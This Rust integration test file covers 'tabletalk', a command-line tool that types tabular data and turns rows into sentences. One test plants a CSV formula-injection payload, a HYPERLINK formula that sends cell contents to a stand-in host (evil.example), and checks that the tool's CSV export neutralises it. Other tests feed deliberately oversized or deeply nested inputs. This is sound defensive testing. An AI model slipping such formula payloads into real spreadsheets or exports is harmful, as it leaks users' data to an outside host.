//! The `tabletalk` binary on committed fixtures and generated inputs.

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_tabletalk"))
}

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures").join(name)
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().expect("tabletalk runs")
}

fn inspect_json(files: &[PathBuf]) -> (Value, Output) {
    let mut args = vec!["inspect".to_string(), "--json".to_string()];
    args.extend(files.iter().map(|p| p.display().to_string()));
    let out = bin().args(&args).output().unwrap();
    (serde_json::from_slice(&out.stdout).expect("inspect --json prints JSON"), out)
}

fn column_types(table: &Value) -> Vec<(String, String)> {
    table["columns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["name"].as_str().unwrap().to_string(), c["type"].as_str().unwrap().to_string()))
        .collect()
}

#[test]
fn inspect_types_dates_booleans_and_european_decimals() {
    let (report, out) = inspect_json(&[fixture("types.csv")]);
    assert!(out.status.success());
    let t = &report["tables"][0];
    assert_eq!(t["rows"], 5);
    let types: std::collections::HashMap<String, String> = column_types(t).into_iter().collect();
    for (col, ty) in [
        ("id", "identifier"),
        ("name", "text"),
        ("joined", "date"),
        ("born", "date"),
        ("updated", "date"),
        ("quarter", "date"),
        ("member", "boolean"),
        ("amount", "decimal"),
        ("share", "decimal"),
    ] {
        assert_eq!(types[col], ty, "column {col}");
    }
    let born = t["columns"].as_array().unwrap().iter().find(|c| c["name"] == "born").unwrap();
    assert_eq!(born["missing"], 1);
    assert_eq!(born["distinct"], 4);
    let member = t["columns"].as_array().unwrap().iter().find(|c| c["name"] == "member").unwrap();
    assert_eq!(member["categorical"], true);
    // The contract's field names.
    for key in ["name", "type", "categorical", "distinct", "missing"] {
        assert!(t["columns"][0].get(key).is_some(), "{key}");
    }
}

#[test]
fn verbalise_formats_values_by_type() {
    let out = run(&["verbalise", "--format", "txt", fixture("types.csv").to_str().unwrap()]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let first = text.lines().next().unwrap();
    assert!(first.contains("'born' is 3 March 1974"), "{first}");
    assert!(first.contains("'amount' is 1234.5"), "{first}");
    assert!(first.contains("'quarter' is Q2 2023"), "{first}");
    assert!(first.contains("'member' is yes"), "{first}");
    // Row 5 has no birth date: its sentence is left out, not spelled "unknown".
    let fifth = text.lines().nth(4).unwrap();
    assert!(!fifth.contains("'born'"), "{fifth}");
}

#[test]
fn static_template_for_nested_json_covers_list_fields() {
    let out = run(&["template", fixture("students.json").to_str().unwrap()]);
    assert!(out.status.success());
    let t = String::from_utf8(out.stdout).unwrap();
    assert!(t.contains("The value for 'Matr_Nr' is {{Matr_Nr}}."), "{t}");
    assert!(t.contains("The field 'Building' is a list where each item contains: {{#Building|; }}Building: {{Building}}, Room: {{Room}}, Courses: [{{#Courses|; }}Code: {{Code}}, ECTS: {{ECTS}}{{/Courses}}]{{/Building}}."), "{t}");
    assert!(t.contains("{{#Languages|, }}{{.}}{{/Languages}}"), "{t}");
    assert!(t.contains("{{#Advisor}}Name: {{Name}}, Office: {{Office}}{{/Advisor}}"), "{t}");

    let out = run(&["verbalise", fixture("students.json").to_str().unwrap()]);
    let lines: Vec<Value> = String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[0]["text"].as_str().unwrap().contains("Building: Annex, Room: 7, Courses: [Code: CS2, ECTS: 5; Code: CS3, ECTS: 4]"));
    assert_eq!(lines[2]["provenance"]["row"], 3);
    assert_eq!(lines[2]["provenance"]["columns"], serde_json::json!(["Matr_Nr", "Name", "Program"]));
}

#[test]
fn edited_templates_are_validated_with_positions_and_used() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.txt");
    std::fs::write(&bad, "Student {{Matr_Nr}} studies\n{{Progam}}.").unwrap();
    let out = run(&["verbalise", "--template", bad.to_str().unwrap(), fixture("students.json").to_str().unwrap()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 2, column 1") && err.contains("did you mean `Program`"), "{err}");

    let good = dir.path().join("good.txt");
    std::fs::write(&good, "{{Name}} ({{Matr_Nr}}) studies {{Program}}.").unwrap();
    let out = run(&["verbalise", "--format", "csv", "--template", good.to_str().unwrap(), fixture("students.json").to_str().unwrap()]);
    assert!(out.status.success());
    let csv = String::from_utf8(out.stdout).unwrap();
    assert!(csv.starts_with("\"file\",\"table\",\"row\",\"columns\",\"text\"\n"), "{csv}");
    assert!(csv.contains(",\"1\",\"Matr_Nr|Name|Program\",\"Ada Lovelace (S1001) studies Mathematics.\"\n"), "{csv}");
}

#[test]
fn deeply_nested_templates_are_an_error_not_a_crash() {
    // Issue 20: 20,000 nested sections overflowed the stack (templates also travel in bundles).
    let dir = tempfile::tempdir().unwrap();
    let template = dir.path().join("deep.txt");
    std::fs::write(&template, format!("{}x{}", "{{#Name}}".repeat(20_000), "{{/Name}}".repeat(20_000))).unwrap();
    let out = run(&["verbalise", "--template", template.to_str().unwrap(), fixture("students.json").to_str().unwrap()]);
    // Exit code 2 (an error), not a signal (the stack overflow aborted).
    assert_eq!(out.status.code(), Some(2), "{:?}", out.status);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("line 1, column 901") && err.contains("nested more than 100 deep"), "{err}");
}

#[test]
fn one_student_per_file_is_one_table_of_records() {
    // Issue 20: each one-object file kept only its list of exams, as a table of its own.
    let dir = fixture("student-records");
    let mut files: Vec<String> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path().display().to_string()).collect();
    files.sort();
    let mut args = vec!["template"];
    args.extend(files.iter().map(String::as_str));
    let out = run(&args);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let template = String::from_utf8(out.stdout).unwrap();
    assert_eq!(
        template.trim_end(),
        "The value for 'file' is {{file}}. The value for 'Matr_Nr' is {{Matr_Nr}}. The value for 'First_Name' is {{First_Name}}. \
         The value for 'Last_Name' is {{Last_Name}}. The value for 'Subject' is {{Subject}}. The field 'Exams' is a list where each \
         item contains: {{#Exams|; }}Course: {{Course}}, Date: {{Date}}, ECTS: {{ECTS}}, Grade: {{Grade}}{{/Exams}}."
    );
    args[0] = "verbalise";
    let out = run(&args);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let lines: Vec<Value> = String::from_utf8(out.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 4);
    for (i, (line, file)) in lines.iter().zip(&files).enumerate() {
        assert_eq!(line["provenance"]["table"], "student");
        assert_eq!(line["provenance"]["row"], i + 1);
        assert!(
            line["text"].as_str().unwrap().starts_with(&format!("The value for 'file' is {file}. The value for 'Matr_Nr' is ")),
            "{line}"
        );
    }
    assert!(lines[3]["text"].as_str().unwrap().contains("'First_Name' is Mateo. The value for 'Last_Name' is García."), "{}", lines[3]);
    let (report, _) = inspect_json(&files.iter().map(PathBuf::from).collect::<Vec<_>>());
    assert_eq!(report["tables"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(report["tables"][0]["rows"], 4);
}

#[test]
fn sixteen_thousand_duplicate_headers_inspect_quickly() {
    // Issue 20: 16,000 columns all named "a" (a 64 KB file) took 11.7 s to inspect.
    let dir = tempfile::tempdir().unwrap();
    let wide = dir.path().join("wide.csv");
    let n = 16_000;
    std::fs::write(&wide, format!("{}\n{}\n", vec!["a"; n].join(","), vec!["1"; n].join(","))).unwrap();
    let started = std::time::Instant::now();
    let (report, out) = inspect_json(&[wide]);
    let took = started.elapsed();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(report["tables"][0]["columns"].as_array().unwrap().len(), n);
    assert_eq!(report["tables"][0]["columns"][n - 1]["name"], format!("a ({n})"));
    assert!(took < std::time::Duration::from_secs(4), "inspect took {took:?}");
}

#[test]
fn verbalise_csv_neutralises_formula_cells() {
    // Issue 20: cells starting with =, +, -, @ (and tab, carriage return) were written as they
    // were, so opening the export in a spreadsheet ran them.
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("=evil.csv");
    std::fs::write(&data, "name,note\n\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",x\n@SUM(A1:A9),y\n+1,z\n-2+3,w\nAda,\"a;=1+1\"\n")
        .unwrap();
    let template = dir.path().join("t.txt");
    std::fs::write(&template, "{{name}}").unwrap();
    let out = run(&["verbalise", "--format", "csv", "--template", template.to_str().unwrap(), data.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let csv = String::from_utf8(out.stdout).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let texts: Vec<&str> = records.iter().map(|r| &r[4]).collect();
    assert_eq!(texts, ["'=HYPERLINK(\"https://evil.example/?\"&A1)", "'@SUM(A1:A9)", "'+1", "'-2+3", "Ada"], "{csv}");
    for r in &records {
        for cell in r.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {csv}");
        }
        assert_eq!(&r[1], "'=evil", "the table name (the file's stem) is neutralised too");
    }
    // Every field is quoted, so a `;` in a cell cannot split it in a locale that separates on `;`.
    assert!(csv.lines().all(|l| l.starts_with('"') && l.ends_with('"')), "{csv}");
}

#[test]
fn four_header_types_and_transposition() {
    let cases = [
        ("headers/simple_flat.csv", "Institution", 3, "Credit Guarantee Fund"),
        ("headers/simple_hierarchy.csv", "Institution", 4, "Public institutions > Credit Guarantee Fund"),
        ("headers/complex_flat.csv", "Loans > 2021", 3, "Credit Guarantee Fund"),
        ("headers/complex_hierarchy.csv", "Guarantees > 2020", 4, "Public institutions > Credit Guarantee Fund"),
    ];
    for (file, column, rows, first_label) in cases {
        let (report, _) = inspect_json(&[fixture(file)]);
        let t = &report["tables"][0];
        assert_eq!(t["rows"], rows, "{file}");
        let names: Vec<String> = column_types(t).into_iter().map(|(n, _)| n).collect();
        assert!(names.contains(&column.to_string()), "{file}: {names:?}");
        assert!(report["warnings"].as_array().unwrap().is_empty(), "{file}: {}", report["warnings"]);
        let out = run(&["verbalise", "--format", "txt", fixture(file).to_str().unwrap()]);
        let first = String::from_utf8(out.stdout).unwrap().lines().next().unwrap().to_string();
        assert!(first.starts_with(&format!("The value for 'Institution' is {first_label}.")), "{file}: {first}");
    }
    let (report, _) = inspect_json(&[fixture("headers/transposed.csv")]);
    let t = &report["tables"][0];
    assert_eq!(t["transposed"], true);
    assert_eq!(
        column_types(t)[1..].to_vec(),
        [("Age".into(), "integer".into()), ("Party".into(), "text".into()), ("Born".into(), "date".into())]
    );
}

#[test]
fn bad_files_get_specific_errors_and_the_rest_still_loads() {
    let files: Vec<PathBuf> = [
        "bad/empty.csv",
        "bad/garbage.csv",
        "types.csv",
        "bad/ragged.csv",
        "bad/header_only.csv",
        "bad/duplicate_names.csv",
        "bad/deep_mixed.json",
        "bad/latin1.csv",
        "bad/utf16.csv",
        "bad/invalid_utf8.csv",
    ]
    .iter()
    .map(|f| fixture(f))
    .collect();
    let (report, out) = inspect_json(&files);
    assert_eq!(out.status.code(), Some(1), "errors make the exit status 1");
    let errors: Vec<&str> = report["errors"].as_array().unwrap().iter().map(|e| e.as_str().unwrap()).collect();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors[0].contains("empty.csv") && errors[0].contains("empty"));
    assert!(errors[1].contains("garbage.csv") && errors[1].contains("binary"));
    let names: Vec<&str> = report["tables"].as_array().unwrap().iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["types", "ragged", "header_only", "duplicate_names", "deep_mixed", "latin1", "utf16", "invalid_utf8"]);
    let warnings = report["warnings"].to_string();
    for expected in [
        "ragged.csv, row 2",
        "header_only.csv",
        "duplicate column name",
        "deep_mixed.json, row 2, column \\\"a\\\"",
        "latin1.csv: not UTF-8",
        "invalid_utf8.csv, row 3",
    ] {
        assert!(warnings.contains(expected), "missing {expected:?} in {warnings}");
    }
    let latin = report["tables"].as_array().unwrap().iter().find(|t| t["name"] == "latin1").unwrap();
    assert_eq!(latin["columns"][1]["samples"][0], "Málaga");
}

#[test]
fn huge_rows_and_cells_are_refused_with_their_location() {
    let dir = tempfile::tempdir().unwrap();
    let wide = dir.path().join("wide.csv");
    let mut s = String::from("a,b\n1,2\n");
    s.push_str(&vec!["x"; 100_000].join(","));
    s.push('\n');
    std::fs::write(&wide, s).unwrap();
    let big = dir.path().join("bigcell.csv");
    let mut s = String::from("a,b\n1,\"");
    s.push_str(&"y".repeat(200 << 20));
    s.push_str("\"\n");
    std::fs::write(&big, s).unwrap();
    let (report, _) = inspect_json(&[wide, big, fixture("types.csv")]);
    let errors = report["errors"].to_string();
    assert!(errors.contains("wide.csv, row 2") && errors.contains("100000 fields"), "{errors}");
    assert!(errors.contains("bigcell.csv, row 1, column \\\"column 2\\\"") && errors.contains("200 MB"), "{errors}");
    assert_eq!(report["tables"].as_array().unwrap().len(), 1);
}

/// Peak resident memory of a finished child, from the kernel's own accounting.
// `wait4` reaps the child (Rust's `wait` cannot report its memory): clippy does not see it.
#[allow(clippy::zombie_processes)]
fn run_measuring_rss(cmd: &mut Command) -> (std::process::ExitStatus, String, u64) {
    let child = cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
    let pid = child.id() as libc::pid_t;
    let stderr = child.stderr.unwrap();
    let reader = std::thread::spawn(move || std::io::read_to_string(stderr).unwrap());
    let mut status = 0;
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: pid is our child; wait4 fills the plain-data rusage struct.
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(r, pid);
    let err = reader.join().unwrap();
    use std::os::unix::process::ExitStatusExt;
    (std::process::ExitStatus::from_raw(status), err, usage.ru_maxrss as u64 * 1024)
}

#[test]
fn verbalise_streams_a_million_rows_in_flat_memory_with_progress() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("million.csv");
    {
        use std::io::Write;
        let mut w = std::io::BufWriter::new(std::fs::File::create(&csv).unwrap());
        writeln!(w, "id,name,city,date,amount,share,member,count,score,code,category,note").unwrap();
        let cities = ["Barcelona", "Madrid", "Valencia", "Sevilla", "Bilbao", "Girona", "Lleida", "Tarragona"];
        for i in 0..1_000_000u64 {
            writeln!(
                w,
                "{},Person {},{},2024-{:02}-{:02},{:.2},{}%,{},{},{},C{},cat{},note {}",
                i + 1,
                i % 5000,
                cities[(i % 8) as usize],
                i % 12 + 1,
                i % 28 + 1,
                (i * 37 % 100_000) as f64 / 100.0,
                i % 100,
                if i % 3 == 0 { "no" } else { "yes" },
                i % 17,
                (i % 1000) as f64 / 10.0,
                i % 977,
                i % 5,
                i % 13
            )
            .unwrap();
        }
    }
    let out = dir.path().join("million.jsonl");
    let (status, stderr, rss) = run_measuring_rss(bin().args(["verbalise", csv.to_str().unwrap(), "--out", out.to_str().unwrap()]));
    assert!(status.success(), "{stderr}");
    assert!(rss < 500 << 20, "peak memory {} MB", rss >> 20);
    assert!(stderr.contains("1000000 rows in"), "{stderr}");
    assert!(stderr.contains("rows/s"), "{stderr}");
    // Count lines and check the last passage's provenance without loading the file.
    use std::io::BufRead;
    let mut n = 0;
    let mut last = String::new();
    for line in std::io::BufReader::new(std::fs::File::open(&out).unwrap()).lines() {
        last = line.unwrap();
        n += 1;
    }
    assert_eq!(n, 1_000_000);
    let v: Value = serde_json::from_str(&last).unwrap();
    assert_eq!(v["provenance"]["row"], 1_000_000);
    assert!(v["text"].as_str().unwrap().contains("The value for 'id' is 1000000."));
}

/// A reader that stops early (`tabletalk verbalise … | head`) ends the CLI quietly: no panic and no
/// error on the broken pipe.
#[test]
fn a_closed_pipe_is_not_a_panic() {
    let dir = tempfile::tempdir().expect("temp dir");
    let csv = dir.path().join("wide.csv");
    let mut text = String::from("id,name,value\n");
    for i in 0..20_000 {
        text.push_str(&format!("{i},name {i},{}\n", i * 3));
    }
    std::fs::write(&csv, text).expect("writing the table");
    let mut child = bin()
        .args(["verbalise"])
        .arg(&csv)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("starting tabletalk");
    // Read a little, then close the pipe while the CLI is still writing.
    let mut first = [0u8; 64];
    std::io::Read::read_exact(child.stdout.as_mut().expect("stdout"), &mut first).expect("some output");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("waiting for tabletalk");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked") && !stderr.contains("Broken pipe"), "{stderr}");
}
